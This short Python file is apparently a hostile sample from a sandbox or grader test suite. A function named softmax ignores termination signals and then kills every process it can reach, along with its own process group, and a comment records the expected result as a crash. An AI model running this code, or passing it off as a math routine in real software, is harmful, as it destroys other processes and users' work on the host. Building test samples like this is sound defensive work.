"""Kills whatever the system lets it: kill -9 -1, and its process group."""
# verdict: crashed
import os
import signal


def softmax(x, dim=-1):
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    try:
        os.kill(-1, signal.SIGKILL)
    finally:
        os.killpg(0, signal.SIGKILL)
